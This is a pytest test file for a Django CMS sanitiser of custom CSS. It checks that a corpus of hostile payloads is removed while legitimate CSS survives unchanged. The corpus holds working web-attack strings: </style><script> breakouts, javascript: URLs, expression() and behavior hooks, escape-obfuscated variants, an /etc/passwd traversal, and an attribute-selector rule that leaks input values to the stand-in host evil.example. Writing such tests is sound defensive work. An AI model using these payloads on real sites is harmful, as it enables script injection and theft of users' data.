"""The custom-CSS sanitiser: a hostile corpus (every payload removed), legitimate CSS kept as written."""

import io

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.template import Context, Template
from PIL import Image as PillowImage

from cms.css_sanitizer import MAX_CSS_BYTES, sanitize_css, validate_custom_css
from cms.models import OrgDocument, OrgImage
from orgs.scoping import scopes_disabled

# Canonical form: what the sanitiser writes. Legitimate CSS in this form must come back byte for byte.
LEGITIMATE = """\
body {
  color: #1f2933;
  background-color: rgb(250 250 250);
  font-family: "Source Sans 3", system-ui, sans-serif;
  line-height: 1.5;
}
h1, h2 > small, .hero :is(h2, h3):hover {
  color: hsl(210 40% 20% / 90%);
  margin: 0 auto 1rem !important;
  letter-spacing: -0.01em;
}
.menu a[href^="https"]:not(.active)::after {
  border-bottom: 2px solid currentColor;
  transition: color 0.2s ease-in-out, opacity 0.3s cubic-bezier(0.2, 0, 0, 1);
}
.grid {
  display: grid;
  grid-template-columns: [full-start] repeat(auto-fit, minmax(min(16rem, 100%), 1fr)) [full-end];
  gap: clamp(1rem, 2vw, 2rem);
}
.card {
  --card-accent: #0b6e4f;
  border-left: 4px solid var(--card-accent);
  box-shadow: 0 1px 2px rgba(0, 0, 0, 0.1), 0 4px 12px rgba(0, 0, 0, 0.08);
  background-image: linear-gradient(135deg, #ffffff 0%, #f1f5f9 100%);
  position: sticky;
  top: 0;
}
@media (max-width: 40em) {
  .grid {
    display: block;
  }
  @supports (display: flex) {
    .menu {
      display: flex;
      flex-wrap: wrap;
    }
  }
}
@media print {
  .menu {
    display: none;
  }
}
"""

# (payload, a piece of text that must not survive). Every payload must also be reported as removed.
HOSTILE = [
    # imports and other at-rules that load or redefine things
    ("@import url(https://evil.example/x.css);", "evil"),
    ('@import "https://evil.example/x.css";', "evil"),
    ("@IMPORT 'x.css';", "x.css"),
    ("@\\69mport url(x.css);", "x.css"),
    ('@charset "UTF-7";', "UTF-7"),
    ("@namespace svg url(http://www.w3.org/2000/svg);", "namespace"),
    ("@font-face { font-family: x; src: url(https://evil.example/f.woff2); }", "evil"),
    ("@font-face { font-family: x; src: url(//evil.example/f.woff2); unicode-range: U+0061; }", "evil"),
    ("@font-face { font-family: leak; src: url(/media/original_images/unknown.woff); unicode-range: U+0041; }",
     "unknown"),
    ("@keyframes x { from { background: url(https://evil.example/k) } }", "evil"),
    ("@page { background: url(https://evil.example/p) }", "evil"),
    ("@layer evil { a { color: red } }", "evil"),
    ("@document url-prefix(http://evil.example) { a { color: red } }", "evil"),
    # url() to other hosts, scripts and data
    ("a { background: url(https://evil.example/track.gif) }", "evil"),
    ("a { background: url('//evil.example/track.gif') }", "evil"),
    ("a { background-image: url(javascript:alert(1)) }", "javascript"),
    ("a { background-image: url('JaVaScRiPt:alert(1)') }", "alert"),
    ("a { background: url(data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=) }", "data:"),
    ("a { background: url(  'data:text/html,<script>alert(1)</script>' ) }", "script"),
    ("a { background: u\\rl(https://evil.example/e) }", "evil"),
    ("a { background: \\75 \\72 \\6c (https://evil.example/e) }", "evil"),
    ("a { list-style: url(https://evil.example/l) }", "evil"),
    ("a { cursor: url(https://evil.example/c.cur), auto }", "evil"),
    ("a { background: image-set('https://evil.example/i.png' 1x) }", "evil"),
    ("a { border-image: url(https://evil.example/b) 30 round }", "evil"),
    ("a { background: url(/media/../../etc/passwd) }", "passwd"),
    ("a { background: url(http://user@alpha.localhost/media/x.png) }", "user@"),
    ("input[value^=a] { background: url(https://evil.example/?key=a) }", "evil"),
    # code in old browsers
    ("a { width: expression(alert(1)) }", "alert"),
    ("a { width: \\65xpression(alert(1)) }", "alert"),
    ("a { width: expr\\65ssion(alert(1)) }", "alert"),
    ("a { width: \\000065 xpression(alert(1)) }", "alert"),
    ("a { behavior: url(xss.htc) }", "htc"),
    ("a { -ms-behavior: url(xss.htc) }", "htc"),
    ("a { b\\65havior: url(xss.htc) }", "htc"),
    ("a { -moz-binding: url(https://evil.example/xss.xml#x) }", "evil"),
    ("a { -mo\\7a -binding: url(https://evil.example/xss.xml#x) }", "evil"),
    ("a { color: red; xss: expression(alert(1)) }", "alert"),
    # breaking out of <style>
    ("</style><script>alert(1)</script>", "script"),
    ("a { color: red } </style><img src=x onerror=alert(1)>", "onerror"),
    ("a { font-family: '</style><script>alert(1)</script>' }", "script"),
    ("a { font-family: \\3c /style\\3e \\3c script\\3e alert(1) }", "script"),
    ("a[title='</style><script>alert(1)</script>'] { color: red }", "script"),
    ("a { content: '\\3c /style\\3e' }", "style"),
    ("<!-- a { color: red } --> <script>alert(1)</script>", "script"),
    # smuggling through nesting and conditions
    ("@media screen { @import url(https://evil.example/m.css); }", "evil"),
    ("@media screen { a { background: url(https://evil.example/m) } }", "evil"),
    ("@media screen { @media print { @supports (color: red) { @media all { a { width: expression(1) } } } } }",
     "expression"),
    ("@media (min-width: expression(alert(1))) { a { color: red } }", "alert"),
    ("@supports (background: url(https://evil.example/s)) { a { color: red } }", "evil"),
    ("a { color: red; b { background: url(https://evil.example/n) } }", "evil"),
    ("a { color: red; & b { background: url(https://evil.example/n) } }", "evil"),
    # custom properties carrying what the property itself may not
    ("a { --x: url(https://evil.example/v) }", "evil"),
    ("a { --x: expression(alert(1)) }", "alert"),
    ("a { --x: { background: red } }", "background: red"),
    ("a { --p: fixed; position: var(--p) }", "var(--p)"),
    ("a { display: var(--d) }", "var(--d)"),
    # overlays and odd display values
    ("a { position: fixed; inset: 0; z-index: 2147483647 }", "fixed"),
    ("a { position: \\66ixed }", "fixed"),
    ("a { display: -webkit-box-evil }", "evil"),
    # selectors that are not ordinary
    ("a:-moz-any-link, a:evil(x) { color: red }", "evil"),
    ("\\65xpression(alert(1)) a { color: red }", "alert"),
    ("a { transition: url(https://evil.example/t) }", "evil"),
    ("a { filter: url(https://evil.example/f.svg#x) }", "evil"),
    ("a { content: attr(data-evil) }", "evil"),
]


def test_corpus_is_large():
    assert len(HOSTILE) >= 40


@pytest.mark.parametrize(("payload", "marker"), HOSTILE, ids=[p[:50] for p, _ in HOSTILE])
def test_hostile_payload_is_removed(payload, marker):
    result = sanitize_css(payload)
    assert result.removed, "nothing was reported as removed"
    assert marker.lower() not in result.css.lower()
    for danger in ("<", "url(", "expression", "javascript", "behavior", "binding", "@import", "evil"):
        assert danger not in result.css.lower()
    assert sanitize_css(result.css).css == result.css
    assert all(removal.reason for removal in result.removed)


@pytest.mark.parametrize(("payload", "marker"), HOSTILE, ids=[p[:50] for p, _ in HOSTILE])
def test_hostile_payload_next_to_legitimate_css_takes_only_itself(payload, marker):
    result = sanitize_css(f"p {{ color: #123456; }}\n{payload}\n.after {{ margin: 0; }}")
    assert marker.lower() not in result.css.lower()
    assert "<" not in result.css
    assert "p {\n  color: #123456;\n}" in result.css


def test_legitimate_css_is_kept_byte_for_byte():
    result = sanitize_css(LEGITIMATE)
    assert result.removed == []
    assert result.css == LEGITIMATE


def test_sanitising_twice_changes_nothing():
    messy = "/* brand */ H1{COLOR:Red;margin:0   auto}@media screen{p{padding:1px 2px}} a{position:fixed;color:blue}"
    once = sanitize_css(messy).css
    assert once == (
        "H1 {\n  COLOR: Red;\n  margin: 0 auto;\n}\n@media screen {\n  p {\n    padding: 1px 2px;\n  }\n}\n"
        "a {\n  color: blue;\n}\n"
    )
    assert sanitize_css(once).css == once
    assert sanitize_css(once).removed == []


def test_comments_are_dropped_and_important_stays():
    result = sanitize_css("/* a */ p { /* b */ color: red /* c */ !important; }")
    assert result.css == "p {\n  color: red !important;\n}\n"


def test_each_removal_names_the_text_and_why():
    result = sanitize_css("@import url(https://evil.example/x.css);\np { behavior: url(x.htc); position: fixed; }")
    texts = {removal.text: removal.reason for removal in result.removed}
    assert texts == {
        "@import url(https://evil.example/x.css);": "imports load styles from other sites",
        "behavior: url(x.htc)": "behaviours and bindings run code in old browsers",
        "position: fixed": "fixed positioning could cover the whole page",
    }


def test_input_larger_than_the_limit_is_refused_whole():
    huge = "p { color: red; }\n" * (MAX_CSS_BYTES // 10)
    result = sanitize_css(huge)
    assert result.css == ""
    assert result.removed[0].reason == "custom CSS may be at most 50 KB"


def test_deep_nesting_and_many_rules_stay_fast():
    nested = "@media screen {" * 200 + "a { color: red }" + "}" * 200
    result = sanitize_css(nested)
    assert result.css == ""
    assert result.removed
    many = "".join(f".c{i} {{ color: #{i % 4096:03x}; }}" for i in range(2000))
    assert sanitize_css(many).css.count("{") == 2000


def test_empty_and_none():
    assert sanitize_css("").css == ""
    assert sanitize_css(None).css == ""


def test_validator_lists_every_removal(alpha):
    validator = validate_custom_css(alpha)
    validator("p { color: red; }")  # clean CSS passes
    with pytest.raises(ValidationError) as error:
        validator("@import url(https://evil.example/x.css);\np { width: expression(1); }")
    assert error.value.messages == [
        "`@import url(https://evil.example/x.css);`: imports load styles from other sites",
        "`width: expression(1)`: expressions run code in old browsers",
    ]


def _png():
    buffer = io.BytesIO()
    PillowImage.new("RGB", (4, 4), "red").save(buffer, "PNG")
    return SimpleUploadedFile("header.png", buffer.getvalue(), content_type="image/png")


@pytest.fixture
def alpha_image(alpha):
    with scopes_disabled():
        return OrgImage.objects.create(title="Header", file=_png(), collection=alpha.collection)


def test_url_of_the_organisations_own_media_is_kept(alpha, alpha_image):
    with scopes_disabled():
        document = OrgDocument.objects.create(
            title="Font", file=SimpleUploadedFile("brand.woff2", b"wOF2"), collection=alpha.collection
        )
        rendition = alpha_image.get_rendition("width-2")
    css = (
        f'.hero {{\n  background: url("{alpha_image.file.url}") center / cover;\n}}\n'
        f'.band {{\n  background-image: url({rendition.url});\n}}\n'
        f'@font-face {{\n  font-family: Brand;\n  src: url("{document.file.url}") format("woff2");\n}}\n'
        f'.abs {{\n  background: url("http://{alpha.hostname}{alpha_image.file.url}");\n}}\n'
    )
    result = sanitize_css(css, organization=alpha)
    assert result.removed == []
    assert result.css == css


def test_url_of_another_organisations_media_is_removed(alpha, beta, alpha_image):
    css = f".hero {{ background: url({alpha_image.file.url}); }}"
    assert "url(" not in sanitize_css(css, organization=beta).css
    assert "url(" not in sanitize_css(css).css  # no organisation: no media at all
    assert "url(" not in sanitize_css(
        f".hero {{ background: url(https://{beta.hostname}{alpha_image.file.url}); }}", organization=alpha).css
    assert "url(" not in sanitize_css(
        f".hero {{ background: url({alpha_image.file.url}?x=1); }}", organization=alpha).css
    assert "url(" not in sanitize_css(
        f".hero {{ transition: url({alpha_image.file.url}); }}", organization=alpha).css


def test_template_filter_sanitises_again(alpha, alpha_image):
    template = Template("{% load sanitize %}<style>{{ css|sanitized_css:organization }}</style>")
    css = f"p {{ color: red; }} .h {{ background: url({alpha_image.file.url}); }} </style><script>x()</script>"
    html = template.render(Context({"css": css, "organization": alpha}))
    assert html.count("<") == 2  # <style> and </style>, nothing else
    assert "color: red;" in html
    assert f"url({alpha_image.file.url})" in html
    assert "url(" not in Template("{% load sanitize %}{{ css|sanitized_css }}").render(Context({"css": css}))


def test_render_time_sanitising_remembers_only_what_depends_on_nothing_else(alpha, alpha_image):
    from cms.css_sanitizer import sanitized_css_text

    plain = "p { color: red; } @import url(x.css);"
    assert sanitized_css_text(plain) == sanitize_css(plain).css == "p {\n  color: red;\n}\n"
    assert sanitized_css_text(plain) == "p {\n  color: red;\n}\n"
    with_address = f".h {{ background: url({alpha_image.file.url}); }}"
    assert "url(" in sanitized_css_text(with_address, organization=alpha)
    with scopes_disabled():
        alpha_image.delete()
    assert "url(" not in sanitized_css_text(with_address, organization=alpha)  # asked again, now refused


def test_shuffled_fragments_never_yield_breakout_addresses_or_unstable_output():
    """Payloads cut up and recombined (a fixed seed): the output stays safe and sanitising it changes nothing."""
    import random

    pieces = [payload for payload, _marker in HOSTILE] + LEGITIMATE.split("\n") + [
        "{", "}", ";", ":", "\\", "\\3c ", "<", "/*", "*/", '"', "'", "(", ")", "@media screen{", "url(",
        "</style>", "\\0", "\n", "!important", "--x:", "var(--x)", "&", "@supports(", "[", "]",
    ]
    rnd = random.Random(5)
    for _ in range(2000):
        css = "".join(rnd.choice(pieces) for _ in range(rnd.randint(1, 8)))
        out = sanitize_css(css).css
        assert "<" not in out and "url(" not in out.lower() and "expression" not in out.lower(), css
        again = sanitize_css(out)
        assert again.css == out and again.removed == [], css
